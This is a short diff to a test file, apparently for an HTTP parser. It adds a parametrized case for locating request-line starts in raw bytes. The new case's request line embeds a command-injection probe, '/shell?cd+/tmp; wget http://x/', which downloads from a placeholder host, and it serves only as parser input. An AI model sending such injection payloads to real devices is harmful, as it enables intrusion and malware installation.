@@ -59,6 +59,7 @@ def test_split_target(target: bytes, path: bytes, authority: bytes, credentials:
     ("line", "start"),
     [
         (b"a=bGET /x HTTP/1.1\r\n", b"GET /x HTTP/1.1\r\n"),
+        (b"GET /shell?cd+/tmp; wget http://x/ HTTP/1.1\r\n", b"GET /shell?cd+/tmp; wget http://x/ HTTP/1.1\r\n"),
         (b"\0\0HTTP/1.1 200 OK\r\n", b"HTTP/1.1 200 OK\r\n"),
         (b"see HTTP/1.1 for more\r\n", b""),
         (b"GET the thing\r\n", b""),
